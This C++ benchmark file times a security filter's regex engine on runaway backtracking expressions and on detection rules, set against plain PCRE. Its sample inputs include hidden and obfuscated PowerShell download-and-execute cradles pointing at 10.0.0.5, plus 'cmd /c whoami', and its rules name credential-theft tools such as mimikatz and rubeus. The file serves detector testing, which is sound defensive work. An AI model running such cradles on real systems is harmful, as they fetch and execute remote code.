// The time of one filter expression's match over long values: for a catalogue of expressions that
// run away (a match ends at the bound of its work), and for ordinary ones beside plain PCRE on the
// same value (the same text and options, studied for the JIT, no callouts), as a ratio.
#include <benchmark/benchmark.h>
#include <pcre.h>

#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "VarloService/sysfilter/Operators.h"
#include "VarloService/sysfilter/Pattern.h"

namespace {

std::string Repeated(const std::string& unit, size_t length, const std::string& tail = "") {
  std::string value;
  while (value.size() + tail.size() < length) value += unit;
  value.resize(length - tail.size());
  return value + tail;
}

std::string Accents(size_t length) {
  std::string value = "e";
  while (value.size() + 2 <= length) value += "\u0301";
  return value;
}

struct cCase {
  const char* expression;
  std::string (*value)(size_t length);
};

// Each reads its value over and over: back-references compared at every length of their group,
// with and without regard to case, repeated and counted; nested repeats; a lookahead at every
// step; a repeat read to the end at every start; a counted repeat failing near its count; whole
// character clusters.
const cCase kRunaway[] = {
    {R"(^(a+)\1+b$)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"((?i)^(a+)\1+b$)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"((a+)\1{2,}b)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"((?i)^(.*)\1$)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"((\w+)(?:\s+\1){3})", [](size_t n) { return Repeated("aa", n); }},
    {R"((?:a+)+b)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"(^(\w+\s?)*$)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"((.*,){12}x)", [](size_t n) { return Repeated("a,", n); }},
    {R"((?:(?!x).)*y)", [](size_t n) { return Repeated("a", n); }},
    {R"((?=(a+))a*b\1)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"(a.*b)", [](size_t n) { return Repeated("a", n, "!"); }},
    {R"(a[a-z]*\d)", [](size_t n) { return Repeated("a", n); }},
    {R"([ab]{20000}c)", [](size_t n) { return Repeated(std::string(19999, 'a') + "d", n); }},
    {R"([A-Za-z0-9+/]{40,}==)", [](size_t n) { return Repeated("QUJD", n); }},
    {R"(\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+!)", [](size_t n) { return Repeated("+", n); }},
    {R"(\X{2,}!)", Accents},
};

const std::string kCommandLine =
    "powershell.exe -NoP -NonI -W Hidden -c \"$s='http://10.0.0.5/a'; $c=New-Object Net.WebClient; "
    "iex $c.DownloadString($s)\" & C:\\Windows\\System32\\cmd.exe /c echo done > C:\\Users\\Public\\out.txt ";
const std::string kJoinedLine =
    "powershell.exe -NoP -c \"$u='h'+'tt'+'p:'+'//'+'10.'+'0.0'+'.5/'+'s'+'ta'+'ge'+'r.p'+'s1';"
    "$w=New-Object Net.WebClient;$d=$w.DownloadString($u);i'+'e'+'x $d;$n='o'+'u'+'t'+'.txt'\" ";
const std::string kProse =
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut "
    "labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco. ";

// Rules of the kind servers send, each over a long value that holds what it looks for at its end.
const cCase kOrdinary[] = {
    {R"(\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+)", [](size_t n) { return Repeated(kJoinedLine, n); }},
    {R"((?i)cmd.*/c.*(whoami|net user))", [](size_t n) { return Repeated(kCommandLine, n, " cmd /c whoami"); }},
    {R"((?i)(iex|invoke-expression).*downloadstring)", [](size_t n) { return Repeated(kCommandLine, n); }},
    {R"((?i)\b(mimikatz|procdump|psexec|rubeus)\b)", [](size_t n) { return Repeated(kCommandLine, n, " rubeus.exe"); }},
    {R"((?<name>[^\\]+)$)", [](size_t n) { return Repeated(kCommandLine, n, "\\x.exe"); }},
    {R"(\w+\.(exe|dll|ps1)\b)", [](size_t n) { return Repeated(kProse, n, " a.ps1"); }},
    {R"((?i)\b(\w+)\s+\1\b)", [](size_t n) { return Repeated(kProse, n, " Word word"); }},
    {R"((['"]).*?\1)", [](size_t n) { return "'" + Repeated(kProse, n - 1, "'"); }},
    {R"([A-Za-z0-9+/]{40,}={0,2})", [](size_t n) { return Repeated(kProse, n, " QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZn=="); }},
    {R"(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})", [](size_t n) { return Repeated(kProse, n, " 10.0.0.1"); }},
};

void MatchOver(benchmark::State& state, const cCase& c) {
  const std::string value = c.value(static_cast<size_t>(state.range(1)));
  sysfilter::cPattern pattern;
  pattern.Compile(c.expression, true);
  for (auto _ : state) benchmark::DoNotOptimize(pattern.Match(value.data(), value.size(), nullptr, sysfilter::kOpEl));
  state.SetLabel(c.expression);
}

void BM_Runaway(benchmark::State& state) { MatchOver(state, kRunaway[state.range(0)]); }
void BM_Ordinary(benchmark::State& state) { MatchOver(state, kOrdinary[state.range(0)]); }

void BM_OrdinaryInPlainPcre(benchmark::State& state) {
  const cCase& c = kOrdinary[state.range(0)];
  const std::string value = c.value(static_cast<size_t>(state.range(1)));
  const char* error = nullptr;
  int offset = 0;
  pcre* code = pcre_compile(c.expression, PCRE_UTF8 | PCRE_DOTALL | PCRE_MULTILINE, &error, &offset, nullptr);
  pcre_extra* study = pcre_study(code, PCRE_STUDY_JIT_COMPILE, &error);
  int ovector[120];
  for (auto _ : state) {
    benchmark::DoNotOptimize(pcre_exec(code, study, value.data(), static_cast<int>(value.size()), 0, 0, ovector, 120));
  }
  state.SetLabel(c.expression);
  pcre_free_study(study);
  pcre_free(code);
}

constexpr long kRunawayCount = sizeof kRunaway / sizeof kRunaway[0];
constexpr long kOrdinaryCount = sizeof kOrdinary / sizeof kOrdinary[0];

BENCHMARK(BM_Runaway)->ArgsProduct({benchmark::CreateDenseRange(0, kRunawayCount - 1, 1), {30000, 120000}})
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_Ordinary)->ArgsProduct({benchmark::CreateDenseRange(0, kOrdinaryCount - 1, 1), {32767, 131072}})
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_OrdinaryInPlainPcre)
    ->ArgsProduct({benchmark::CreateDenseRange(0, kOrdinaryCount - 1, 1), {32767, 131072}})
    ->Unit(benchmark::kMillisecond);

// The console table, then the time of each runaway match, and each ordinary match beside plain
// PCRE's.
class cPatternReporter : public benchmark::ConsoleReporter {
 public:
  void ReportRuns(const std::vector<Run>& runs) override {
    ConsoleReporter::ReportRuns(runs);
    for (const Run& run : runs) {
      const std::string& name = run.run_name.function_name;
      const std::string key = run.report_label + " over " + run.run_name.args.substr(run.run_name.args.find('/') + 1);
      const double milliseconds = run.GetAdjustedCPUTime();  // every run is timed in milliseconds
      if (name == "BM_Runaway") m_Runaway.emplace_back(key, milliseconds);
      if (name == "BM_Ordinary") m_Ordinary[key].first = milliseconds;
      if (name == "BM_OrdinaryInPlainPcre") m_Ordinary[key].second = milliseconds;
    }
  }
  void Finalize() override {
    ConsoleReporter::Finalize();
    std::printf("\nexpressions that run away: time of one match (CPU), ended at the bound of its work\n");
    for (const auto& [key, milliseconds] : m_Runaway) std::printf("  %-70s %8.2f ms\n", key.c_str(), milliseconds);
    std::printf("\nordinary filters over long values: time of one match (CPU) beside plain PCRE\n");
    for (const auto& [key, times] : m_Ordinary) {
      std::printf("  %-70s %8.3f ms  plain %8.3f ms  %6.1f x\n", key.c_str(), times.first, times.second,
                  times.second > 0 ? times.first / times.second : 0.0);
    }
  }

 private:
  std::vector<std::pair<std::string, double>> m_Runaway;
  std::map<std::string, std::pair<double, double>> m_Ordinary;  // bounded, plain
};

}  // namespace

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  cPatternReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  benchmark::Shutdown();
  return 0;
}
